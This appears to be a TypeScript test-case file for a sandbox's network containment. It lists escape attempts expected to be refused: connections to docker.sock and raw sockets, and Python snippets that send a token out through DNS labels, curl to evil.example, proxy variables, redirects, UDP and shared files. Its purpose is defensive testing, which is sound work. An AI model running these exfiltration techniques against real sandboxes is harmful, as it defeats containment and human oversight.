import { type Case, rows } from '../case.js';

const filter = 'the syscall filter, at socket()';
const { refused } = rows('escape-cases 2');
const sockets = rows('escape-cases 3');
const way = rows('escape-cases 9');

/** With nothing allowed. */
const registry: readonly Case[] = [
  refused(
    'connect-unlisted-tcp-host',
    'TCP to 1.1.1.1:443 with nothing allowed',
    {
      ECONNREFUSED: 'every address is local to the namespace, and nothing listens',
      ENETUNREACH: 'the namespace of the command leads nowhere',
      EACCES: filter,
    },
    `return socket.create_connection(('1.1.1.1', 443), 5)`,
    {
      note: 'the checklist takes "unreachable" for no evidence because a machine without a route says it too; here the case connect-host-loopback proves the namespace',
    },
  ),
  refused(
    'dns-exfiltration',
    'resolve a name nobody else uses',
    { EAGAIN: 'the resolver of the session refuses names that no rule has', ENOENT: 'no name server can be reached' },
    `
try: return socket.getaddrinfo(P['token'] + '.exfil.example', 80)
except socket.gaierror as e:
    if e.errno in (socket.EAI_AGAIN,): raise OSError(errno.EAGAIN, 'EAI_AGAIN')
    if e.errno == socket.EAI_NONAME: return 'NXDOMAIN: the label may have travelled'
    none(repr(e))`,
  ),
  refused(
    'abstract-unix-socket-connect',
    'connect to an abstract unix socket that listens',
    { EACCES: filter },
    `
s = socket.socket(socket.AF_UNIX); s.connect(P['abstract']); return s.send(P['token'].encode())`,
  ),
  refused(
    'pathname-unix-socket-connect',
    'connect to docker.sock and to a unix socket that listens',
    { EACCES: filter },
    `
def connect(p):
    s = socket.socket(socket.AF_UNIX); s.connect(p); return s.send(P['token'].encode())
return each(['/var/run/docker.sock', '/run/docker.sock', P['unix']], connect)`,
  ),
  rows('design, battery').refused(
    'connect-host-loopback',
    'TCP to what listens on the loopback of the machine, IPv4 and IPv6',
    {
      ECONNREFUSED: 'the loopback of the namespace is another',
      ENETUNREACH: 'no such route',
      EADDRNOTAVAIL: 'no such address',
      EACCES: filter,
    },
    `return each([('127.0.0.1', P['decoy']), ('::1', P['decoy6'])], lambda to: socket.create_connection(to, 5))`,
  ),
  sockets.refused(
    'unix-socket-creation',
    'create stream and datagram unix sockets',
    { EACCES: filter },
    `return each([socket.SOCK_STREAM, socket.SOCK_DGRAM, socket.SOCK_SEQPACKET], lambda t: socket.socket(socket.AF_UNIX, t))`,
  ),
  sockets.refused(
    'netlink-and-packet',
    'create netlink and packet sockets',
    { EACCES: filter },
    `return each([16, 17], lambda f: socket.socket(f, socket.SOCK_RAW))`,
  ),
  sockets.refused(
    'alg-and-vsock',
    'create sockets of the kernel crypto and of virtual machines',
    { EPERM: filter },
    `return each([38, 40, 31, 29, 44], lambda f: socket.socket(f, socket.SOCK_STREAM))`,
  ),
  sockets.works(
    'inet-creation',
    'create internet sockets and a pair of unix sockets',
    `
a, b = socket.socketpair(); a.send(b'x'); socket.socket(socket.AF_INET); socket.socket(socket.AF_INET6)
return b.recv(1)`,
  ),
  sockets.refused(
    'unix-socket-bind',
    'bind a unix socket in the work folder',
    { EACCES: filter },
    `s = socket.socket(socket.AF_UNIX); return s.bind(W + '/sock')`,
  ),
  sockets.works(
    'unix-sockets-opt-in',
    'create a unix socket and reach a listener in the work folder, where the capsule may',
    `
s = socket.socket(socket.AF_UNIX); s.connect(W + '/listener'); s.send(b'x')
return 'connected'`,
    { box: 'unix-sockets' },
  ),
  sockets.refused(
    'netlink-with-opt-in',
    'netlink, packet and a host on the loopback of the machine, with unix sockets allowed',
    { EACCES: filter, ECONNREFUSED: 'nothing listens in the namespace', ENETUNREACH: 'no such route' },
    `
def make(f):
    if f == 2: return socket.create_connection(('127.0.0.1', P['decoy']), 5)
    return socket.socket(f, socket.SOCK_RAW)
return each([16, 17, 2], make)`,
    { box: 'unix-sockets' },
  ),
  way.refused(
    'raw-sockets',
    'create raw and ping sockets',
    { EPERM: 'no CAP_NET_RAW', EACCES: 'no group may ping' },
    `return each([(2, 3, 1), (10, 3, 58), (2, 2, 1)], lambda a: socket.socket(*a))`,
  ),
];

/**
 * Allowed: `api.example` with one port. Every attempt sends a token that names it; listeners outside of the box count what arrives, and
 * what they count decides, whatever the program itself was told.
 */
export interface Exfiltration {
  readonly id: string;
  readonly attempt: string;
  readonly code: string;
  /** The one way that is allowed. */
  readonly arrives?: true;
}

const send = (id: string, attempt: string, code: string): Exfiltration => ({ id, attempt, code });

export const exfiltration: readonly Exfiltration[] = [
  {
    id: 'exfil-control-allowed',
    attempt: 'the allowed host by its name, so that silence elsewhere means something',
    arrives: true,
    code: `return http(P['api'], 'api.example')`,
  },
  send('exfil-tcp-loopback', 'TCP to a listener on the loopback of the machine', `return tcp('127.0.0.1', P['decoy'])`),
  send('exfil-tcp-machine', "TCP to the machine's own address", `return tcp(P['address'], P['decoy'])`),
  send(
    'exfil-wrong-port',
    'the allowed name with the port of another listener',
    `return tcp('api.example', P['decoy'])`,
  ),
  send(
    'exfil-allowed-port-literal',
    'the allowed port at literal addresses',
    `return each(['127.0.0.1', P['address'], '1.1.1.1', '0.0.0.0'], lambda h: tcp(h, P['api']))`,
  ),
  send(
    'exfil-allowed-port-other-name',
    'the allowed port by names no rule has',
    `return each(['evil.example', 'localhost', 'api.example.evil.example', 'sub.api.example'], lambda h: tcp(h, P['api']))`,
  ),
  send(
    'exfil-private-name',
    'an allowed name that resolves to a private address without a rule that permits it',
    `return tcp('rebind.example', P['api'])`,
  ),
  send(
    'exfil-guessed-address',
    "addresses of the session's own range that were never handed out",
    `return each(['198.18.0.%d' % n for n in (0, 3, 4, 5, 77, 255)], lambda h: tcp(h, P['api']))`,
  ),
  send(
    'exfil-udp',
    'UDP to listeners of the machine',
    `
for host in ('127.0.0.1', P['address'], '198.18.0.1', '8.8.8.8'):
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    try: s.sendto(TOKEN, (host, P['udp']))
    except OSError: pass
return 'sent'`,
  ),
  send(
    'exfil-dns-label',
    'the bytes as a label of names that are looked up',
    `
for name in ('.evil.example', '.api.example', '.localhost', ''):
    try: socket.getaddrinfo(TOKEN.decode() + name, 80)
    except socket.gaierror: pass
return 'asked'`,
  ),
  send(
    'exfil-dns-txt',
    'TXT, NULL and CNAME queries at the resolver of the session',
    `
for kind in (16, 10, 5, 33):
    packet = struct.pack('>6H', 7, 0x100, 1, 0, 0, 0) + bytes([len(TOKEN)]) + TOKEN + b'\\x03api\\x07example\\0' + struct.pack('>2H', kind, 1)
    for host in ('127.0.0.1', '127.0.0.53', '8.8.8.8', P['address']):
        s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.settimeout(0.3)
        try: s.sendto(packet, (host, 53)); s.recv(512)
        except OSError: pass
return 'asked'`,
  ),
  send(
    'exfil-unix-path',
    'a unix socket that listens outside and one in the work folder',
    `return each([P['unix'], W + '/listener'], lambda p: unix(p))`,
  ),
  send('exfil-unix-abstract', 'an abstract unix socket that listens', `return unix(P['abstract'])`),
  send(
    'exfil-proxy-variables',
    'curl with proxy variables that name listeners',
    `
for proxy in ('http://127.0.0.1:%d' % P['decoy'], 'socks5h://127.0.0.1:%d' % P['decoy'], 'http://%s:%d' % (P['address'], P['decoy'])):
    env = dict(os.environ, http_proxy=proxy, https_proxy=proxy, all_proxy=proxy, ALL_PROXY=proxy, HTTP_PROXY=proxy)
    run(['curl', '-s', '-m', '3', 'http://evil.example/' + TOKEN.decode()], env=env)
return 'tried'`,
  ),
  send(
    'exfil-redirect',
    'curl follows a redirect of the allowed host to other listeners',
    `
run(['curl', '-s', '-L', '-m', '5', 'http://api.example:%d/redirect?to=%s' % (P['api'], TOKEN.decode())])
run(['curl', '-s', '-L', '-m', '5', 'http://api.example:%d/redirect6?to=%s' % (P['api'], TOKEN.decode())])
return 'followed'`,
  ),
  send(
    'exfil-resolve-option',
    'curl told which address a name has',
    `
run(['curl', '-s', '-m', '3', '--resolve', 'api.example:%d:127.0.0.1' % P['decoy'], 'http://api.example:%d/%s' % (P['decoy'], TOKEN.decode())])
return 'tried'`,
  ),
  send(
    'exfil-ipv6',
    'TCP and UDP over IPv6 to listeners of the machine, also as a mapped address',
    `
s = socket.socket(socket.AF_INET6, socket.SOCK_DGRAM)
for host in ('::1', '::ffff:127.0.0.1'):
    try: s.sendto(TOKEN, (host, P['udp6']))
    except OSError: pass
return each([('::1', P['decoy6']), ('::ffff:127.0.0.1', P['decoy']), ('::1', P['api']), ('::ffff:' + P['address'], P['decoy']), ('2606:4700:4700::1111', P['api'])], lambda to: tcp(*to))`,
  ),
  send(
    'exfil-file',
    'a FIFO and files that another process of the machine could read outside of the session',
    `return each(['/tmp/../var/tmp/' + TOKEN.decode(), '/dev/shm/' + TOKEN.decode(), P['root'] + '/other/' + TOKEN.decode()], lambda p: write(p, TOKEN))`,
  ),
];

/** What the snippets above use. */
export const exfiltrationHelpers = `
def tcp(host, port):
    s = socket.create_connection((host, port), 5)
    s.settimeout(5)
    s.sendall(TOKEN)
    s.shutdown(socket.SHUT_WR)
    return s.recv(64)
def unix(path):
    s = socket.socket(socket.AF_UNIX); s.connect(path); return s.send(TOKEN)
def http(port, host):
    return run(['curl', '-s', '-m', '8', 'http://%s:%d/%s' % (host, port, TOKEN.decode())])
`;

export const networkCases: readonly Case[] = registry;
